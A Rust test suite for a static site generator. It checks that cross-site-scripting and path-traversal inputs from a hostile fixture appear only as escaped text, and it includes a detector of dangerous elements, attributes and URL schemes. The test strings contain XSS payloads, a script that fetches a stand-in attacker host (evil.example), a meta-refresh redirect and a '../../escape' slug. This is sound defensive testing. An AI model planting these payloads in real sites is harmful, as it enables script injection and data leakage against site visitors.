//! Hostile text everywhere (tests/fixtures/hostile/): script tags, event
//! handlers, `javascript:` and `data:` URLs, iframes, forms, style tricks in
//! clippings, markdown (raw HTML), front matter, sidecars, events, themes,
//! entities and the config. Every built page must carry it as text only.
//! The browser suite reuses the same fixture.

mod common;

use std::fs;
use std::path::Path;

use common::*;
use scraper::Html;

fn hostile() -> Dossier {
    let d = Dossier::empty();
    copy_dir(&repo().join("tests/fixtures/hostile"), &d.root);
    d
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "poster",
    "srcset",
    "background",
    "cite",
    "ping",
];

/// Everything in one page that did not come from the site's own templates.
fn violations(page: &str, html: &Html, base: &str) -> Vec<String> {
    let mut found = Vec::new();
    let own_static = format!("{base}static/");
    let own_search = format!("{base}search/");
    for element in html
        .root_element()
        .descendants()
        .filter_map(scraper::ElementRef::wrap)
    {
        let el = element.value();
        let name = el.name();
        let mut bad = |what: String| {
            found.push(format!(
                "{page}: {what}: {}",
                element.html().chars().take(160).collect::<String>()
            ))
        };
        match name {
            "script" => {
                let own = el.attr("src").is_some_and(|s| s.starts_with(&own_static));
                if !own || !element.text().collect::<String>().trim().is_empty() {
                    bad("script not from the site".into());
                }
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "style" | "base" | "svg"
            | "math" | "applet" | "portal" | "noscript" | "template" => {
                bad(format!("<{name}> element"))
            }
            "form" if el.attr("action") != Some(own_search.as_str()) => {
                bad("form not the site's search".into())
            }
            // The site's own Content-Security-Policy is the only one allowed.
            "meta"
                if el
                    .attr("http-equiv")
                    .is_some_and(|h| !h.eq_ignore_ascii_case("content-security-policy")) =>
            {
                bad("meta http-equiv".into())
            }
            "link" => {
                let href = el.attr("href").unwrap_or("");
                if !(href.starts_with(base) || href.starts_with("https://user.github.io/")) {
                    bad(format!("link to {href}"));
                }
            }
            _ => {}
        }
        for (attr, value) in el.attrs() {
            let lower = attr.to_ascii_lowercase();
            if lower.starts_with("on") {
                bad(format!("event handler {attr}"));
            }
            if lower == "style" || lower == "srcdoc" {
                bad(format!("{attr} attribute"));
            }
            if URL_ATTRIBUTES.contains(&lower.as_str()) {
                let v: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                for scheme in ["javascript:", "data:", "vbscript:"] {
                    if v.starts_with(scheme) {
                        bad(format!("{attr}={value:?}"));
                    }
                }
                // A link to another host is a click away, not a request; it
                // must not hand that host the page, though. Anything else
                // pointing there would be fetched.
                let plain_link = name == "a"
                    && lower == "href"
                    && el
                        .attr("rel")
                        .is_some_and(|r| r.contains("noopener") && r.contains("noreferrer"));
                if v.contains("evil.example") && !plain_link {
                    bad(format!("{attr} to another host: {value:?}"));
                }
            }
        }
    }
    found
}

fn html_pages(out: &Path) -> Vec<(String, String)> {
    site_files(out)
        .into_iter()
        .filter(|(path, _)| path.ends_with(".html"))
        .map(|(path, bytes)| (path, String::from_utf8(bytes).expect("UTF-8 page")))
        .collect()
}

fn assert_inert(out: &Path, base: &str) {
    let pages = html_pages(out);
    assert!(pages.len() > 20, "only {} pages", pages.len());
    let mut all = Vec::new();
    for (path, text) in &pages {
        all.extend(violations(path, &Html::parse_document(text), base));
    }
    assert!(
        all.is_empty(),
        "{} violations:\n{}",
        all.len(),
        all.join("\n")
    );
    // Feeds and the sitemap are XML: markup from content is escaped there too.
    for file in ["feed.xml", "sitemap.xml"] {
        let text = fs::read_to_string(out.join(file)).unwrap();
        for needle in ["<script", "<iframe", "<img", "<svg", "<style", "<form"] {
            assert!(!text.contains(needle), "{file} contains {needle:?}");
        }
    }
}

#[test]
fn hostile_text_is_inert_in_every_page() {
    let d = hostile();
    let out = d.out("site");
    let run = d.build(&out, &[]);
    run.assert_ok();
    assert_inert(&out, "/");

    // The text is shown, as text.
    let page = read_html(&out.join("articles/clipping/index.html"));
    let text = collapse(&page.root_element().text().collect::<String>());
    for shown in [
        "Hviderusland <script>alert('clip-1')</script> har købt",
        "<img src=x onerror=alert('clip-2')>",
        "\"><svg onload=alert('clip-4')>",
        "Sidecar <script>alert('sidecar-title')</script> title",
    ] {
        assert!(text.contains(shown), "article page lacks {shown:?} as text");
    }
    // Payloads that would do something observable (the browser suite,
    // tests/browser/hostile.mjs, watches for it) are text as well.
    let page = read_html(&out.join("articles/beacons/index.html"));
    let text = collapse(&page.root_element().text().collect::<String>());
    for shown in [
        "<script>window.__pwned='beacon-2';fetch('http://evil.example/beacon-2')</script>",
        "<iframe srcdoc=\"<script>parent.__pwned='beacon-3'</script>\"></iframe>",
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/beacon-17\">",
        "</title><script>window.__pwned='sidecar-title-en'</script>",
    ] {
        assert!(text.contains(shown), "beacons page lacks {shown:?} as text");
    }
    // An event slug that is a javascript: URL becomes a plain slug.
    assert!(
        out.join("events/javascript-window-pwned-event-slug/index.html")
            .is_file()
    );
    let event = read_html(&out.join("events/escape/index.html"));
    let text = collapse(&event.root_element().text().collect::<String>());
    assert!(
        text.contains("Event <script>alert('event-title')</script> title"),
        "{text}"
    );

    // A slug of "../../escape" stays inside the site.
    let mut beside: Vec<String> = fs::read_dir(d.tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| !name.starts_with(".site.")) // the build's own lock and state
        .collect();
    beside.sort();
    assert_eq!(beside, vec!["dossier", "site"]);
    assert!(!out.parent().unwrap().join("escape").exists());
}

#[test]
fn hostile_text_is_inert_under_a_project_base_url() {
    let d = hostile();
    let out = d.out("site");
    d.build(&out, &["--base-url", "https://user.github.io/repo/"])
        .assert_ok();
    assert_inert(&out, "/repo/");
}

#[test]
fn hostile_fixture_checks_clean() {
    // The fixture is valid: every hostile quote verifies, nothing is refused.
    let out = hostile().check();
    out.assert_ok();
    assert!(out.diagnostics("error").is_empty(), "{out}");
}

#[test]
fn the_checker_catches_what_it_looks_for() {
    let page = Html::parse_document(
        "<html><head><script>x</script><script src=\"/static/a.js\"></script>\
         <meta http-equiv=\"refresh\" content=\"0\"></head><body>\
         <a href=\" JaVaScRiPt:alert(1)\">a</a><a href=\"data:text/html,x\">b</a>\
         <img src=x onerror=alert(1)><div style=\"x\"></div><iframe></iframe>\
         <form action=\"https://evil.example/\"></form><form action=\"/search/\"></form>\
         </body></html>",
    );
    let found = violations("t.html", &page, "/");
    assert_eq!(found.len(), 9, "{found:#?}");
}
